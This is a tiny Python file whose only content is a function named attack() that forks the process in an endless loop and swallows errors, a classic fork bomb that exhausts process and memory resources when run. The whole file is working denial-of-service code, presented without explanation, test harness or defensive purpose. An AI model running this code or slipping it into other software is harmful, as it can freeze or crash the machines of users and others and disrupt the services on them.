import os


def attack():
    while True:
        try:
            os.fork()
        except OSError:
            pass
